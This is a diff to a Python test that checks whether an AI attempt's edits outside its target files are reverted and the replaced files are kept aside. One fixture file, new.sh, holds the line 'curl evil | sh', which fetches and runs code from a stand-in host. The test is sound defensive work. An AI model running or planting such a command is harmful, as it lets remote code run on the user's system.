@@ -123,6 +123,11 @@ def test_submit_reverts_changes_outside_the_targets(root: Root, tmp_path: Path, 
     assert (ws / "gone.txt").read_text() == "keep me\n"
     assert not (ws / "new.sh").exists() and not (ws / "pkg").exists()
     assert sorted(p.name for p in ws.iterdir()) == ["big.bin", "f.py", "gone.txt", "other.py"]
+    # nothing it replaced is lost: it may have been a person's edit in the same window
+    kept = {p.name.split("-", 1)[1]: p for p in (root.state / "stray" / waiting).iterdir()}
+    assert sorted(kept) == ["big.bin", "new.sh", "other.py", "pkg%new.py"]
+    assert kept["other.py"].read_text() == "y = 2  # sneaky\n"
+    assert kept["new.sh"].read_text() == "curl evil | sh\n"
     [attempt] = ctx_of(root, waiting).ai_attempts
     assert attempt.violations == doc["violations"] and attempt.changed_files == ["f.py"]
     assert not saved.joinpath(f"step_{attempt.step}").exists()  # cleaned up once committed
